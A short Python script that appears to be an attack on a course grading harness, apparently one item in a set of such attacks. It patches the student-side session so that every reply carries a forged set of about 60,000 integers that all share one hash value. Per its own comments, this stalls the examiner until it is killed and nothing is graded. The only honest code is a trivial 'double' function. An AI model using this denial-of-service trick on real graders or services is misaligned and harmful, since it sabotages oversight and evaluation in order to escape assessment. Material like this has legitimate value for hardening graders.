# A set whose elements all have the same hash: who unpacks it is busy for minutes.
# HOLE: the examiner hashes what it is sent, without limit of time; it is killed and nothing is graded
# stock: nothing (the attack is on the crossing)
# alone
import course.grading.student as crossing
import course.grading.wire as wire
import msgpack

big = wire._ext(wire.SET, wire._packed([wire._plain(k * (2**61 - 1), None, 0) for k in range(1, 60_000)]))
old = crossing.Session._answer


def forged(self, request):
    if request[0] != "call":
        return old(self, request)
    return msgpack.packb(wire._ext(wire.DICT, wire._packed(["result", big])), strict_types=True)


crossing.Session._answer = forged


def double(x):
    return 2 * x
